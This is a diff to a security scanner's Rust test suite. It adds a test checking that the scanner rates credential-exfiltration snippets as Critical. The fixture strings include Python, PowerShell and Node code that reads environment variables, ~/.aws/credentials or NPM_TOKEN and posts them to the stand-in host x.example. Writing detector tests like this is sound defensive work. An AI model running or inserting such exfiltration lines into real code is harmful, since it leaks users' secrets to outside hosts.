@@ -407,3 +407,33 @@ fn hostile_bodies_stay_bounded() {
     let report = crate::scan::Scanner::standard().scan(&block("python", &format!("{names}{call}")));
     assert!(report.findings.iter().any(|f| f.rule_id == NET && f.severity == Critical));
 }
+
+#[test]
+fn more_ways_to_read_a_secret_are_sources() {
+    let iterate =
+        block("python", "data = {k: v for k, v in os.environ.items()}\nrequests.post(URL, json=data)");
+    assert_hit(&iterate, NET, Exfiltration, Critical, 5);
+    let comprehension = block(
+        "python",
+        "s = {k: os.environ[k] for k in os.environ if \"KEY\" in k}\nurllib.request.urlopen(\"https://x.example/c\", data=json.dumps(s).encode())",
+    );
+    assert_hit(&comprehension, NET, Exfiltration, Critical, 5);
+    let pathlib = block(
+        "python",
+        "p = Path.home() / \".aws\" / \"credentials\"\nrequests.post(\"https://x.example/c\", data=p.read_text())",
+    );
+    assert_hit(&pathlib, NET, Exfiltration, Critical, 5);
+    let windows = block(
+        "powershell",
+        "$c = Get-Content \"$env:USERPROFILE\\.aws\\credentials\"\nInvoke-RestMethod -Uri \"https://x.example/c\" -Method Post -Body $c",
+    );
+    assert_hit(&windows, NET, Exfiltration, Critical, 5);
+    let exec = block(
+        "js",
+        "require(\"child_process\").execSync(\"curl -d \" + process.env.NPM_TOKEN + \" https://x.example\");",
+    );
+    assert_hit(&exec, "code.source-to-exec", Exfiltration, Critical, 4);
+    // Asking whether a variable is set reads nothing.
+    let membership = block("python", "missing = [n for n in needed if n not in os.environ]\nprint(missing)");
+    assert_absent(&membership, "code.source-to-output");
+}
